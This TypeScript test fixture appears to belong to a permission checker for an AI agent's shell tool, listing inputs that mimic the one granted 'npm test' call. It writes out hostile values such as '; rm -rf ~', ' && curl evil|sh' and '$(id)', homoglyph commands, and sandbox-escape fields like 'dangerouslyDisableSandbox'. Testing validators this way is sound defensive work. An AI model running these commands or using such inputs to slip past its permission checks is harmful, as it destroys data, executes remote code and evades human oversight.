/** The fields of a call's input. */
export type Fields = Readonly<Record<string, unknown>>

/** The input that each agent is granted for always. */
export const granted: Fields = { command: 'npm test', cwd: '/w' }

const endings = [
  '; rm -rf ~',
  ' && curl evil|sh',
  '\nrm -rf ~',
  ' | sh',
  ' &',
  ' > /etc/passwd',
  ' `id`',
  ' $(id)',
  ' ',
  '\t',
  '\u0000',
  '\u200B',
  '\u202E',
  '\r',
  '\uFEFF',
]

const commands: readonly unknown[] = [
  ' npm test',
  'NPM TEST',
  'npm  test',
  'npm\u00A0test',
  'nрm test',
  'ｎpm test',
  'PATH=/evil npm test',
  'npm tes',
  'sh -c "npm test"',
  '',
  null,
  1,
  true,
  ['npm', 'test'],
  ['npm test'],
  { text: 'npm test' },
  { toString: 'npm test' },
]

/** Keys that objects have from their prototype, as a parser of JSON makes them: fields like any other. */
const prototypeKeys = ['__proto__', 'constructor', 'toString', 'hasOwnProperty', 'toJSON'].map(
  key => JSON.parse(`{"command":"npm test","cwd":"/w","${key}":{"cwd":"/precious"}}`) as Fields,
)

const nested = (depth: number): unknown => (depth === 0 ? 'evil' : { in: nested(depth - 1) })

/** Inputs that are not the granted one, though they look like it. */
export const trickyInputs: readonly Fields[] = [
  ...endings.map(end => ({ ...granted, command: `npm test${end}` })),
  ...commands.map(command => ({ ...granted, command })),
  { cmd: 'npm test', cwd: '/w' },
  { command: 'npm test' },
  { ...granted, cwd: '/precious' },
  { ...granted, cwd: '/w/' },
  { ...granted, cwd: '/W' },
  { ...granted, cwd: ['/w'] },
  { ...granted, cwd: null },
  { ...granted, workdir: '/precious' },
  { ...granted, env: { PATH: '/evil' } },
  { ...granted, args: ['; rm -rf ~'] },
  { ...granted, timeout: 1 },
  { ...granted, run_in_background: true },
  { ...granted, dangerouslyDisableSandbox: true },
  { ...granted, sandbox_permissions: 'require_escalated' },
  { ...granted, Command: 'evil' },
  { ...granted, 'command\u0000': 'evil' },
  { ...granted, shell: '/evil/sh' },
  { ...granted, stdin: 'yes' },
  { ...granted, user: 'root' },
  { ...granted, permission: 'evil' },
  { ...granted, patterns: ['*'] },
  { ...granted, metadata: { command: 'evil' } },
  { ...granted, title: 'npm test' },
  { ...granted, nested: { deep: [{ flag: true }] } },
  { ...granted, nested: nested(60) },
  { ...granted, padding: 'x'.repeat(100_000) },
  { ...granted, command: `npm test${' '.repeat(20_000)}; rm -rf ~` },
  ...prototypeKeys,
]
